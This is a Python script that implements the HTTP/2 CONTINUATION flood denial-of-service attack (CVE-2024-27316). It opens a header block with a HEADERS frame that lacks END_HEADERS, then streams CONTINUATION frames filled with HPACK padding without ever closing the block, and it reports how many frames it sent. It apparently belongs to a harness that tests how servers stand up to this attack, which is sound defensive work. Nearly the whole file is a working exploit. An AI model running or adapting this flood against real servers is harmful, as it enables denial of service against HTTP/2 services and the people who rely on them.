"""CONTINUATION flood (CVE-2024-27316): a HEADERS frame without
END_HEADERS followed by CONTINUATION frames that never end the block.

usage: h2_continuation_flood.py PORT FRAMES PAYLOAD_BYTES

Each CONTINUATION frame carries PAYLOAD_BYTES of valid HPACK (literal
headers, never indexed, so the decoded list grows with the bytes), or
nothing when PAYLOAD_BYTES is 0 (the variant that costs the server frame
processing but no header bytes). Frames are written without reading
anything back; stops when a write fails. Prints a JSON report with
`frames_sent`.
"""

import argparse
import time

import hpack

from h2_common import CONTINUATION, END_STREAM, HEADERS, Attacker, frame_bytes


def hpack_filler(size):
    """`size` bytes (roughly) of literal header fields that decode to
    about as many bytes."""
    encoder = hpack.Encoder()
    out = b""
    i = 0
    while len(out) < size:
        out += encoder.encode([(f"x-flood-{i}", "a" * 200)], huffman=False)
        i += 1
    return out


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("frames", type=int)
    parser.add_argument("payload", type=int)
    args = parser.parse_args()

    attacker = Attacker(args.port)
    attacker.poll(wait=1.0)
    stream_id = attacker.conn.get_next_available_stream_id()
    head = hpack.Encoder().encode(attacker.request_headers("/continuation"))
    # HEADERS with END_STREAM but without END_HEADERS: the block goes on.
    attacker.send_raw(frame_bytes(HEADERS, END_STREAM, stream_id, head))
    filler = hpack_filler(args.payload * 4) if args.payload else b""
    sent = 0
    offset = 0
    started = time.monotonic()
    batch = b""
    while sent < args.frames and not attacker.gone:
        if args.payload:
            chunk = filler[offset : offset + args.payload]
            offset += args.payload
            if len(chunk) < args.payload:
                filler = filler + hpack_filler(args.payload * 4)
                chunk = filler[offset - args.payload : offset]
        else:
            chunk = b""
        # Never END_HEADERS.
        batch += frame_bytes(CONTINUATION, 0, stream_id, chunk)
        sent += 1
        if len(batch) >= 64 * 1024 or sent == args.frames:
            attacker.send_raw(batch)
            batch = b""
    attacker.wait_closed(limit=20.0)
    attacker.report(frames_sent=sent, seconds=round(time.monotonic() - started, 3))


if __name__ == "__main__":
    main()
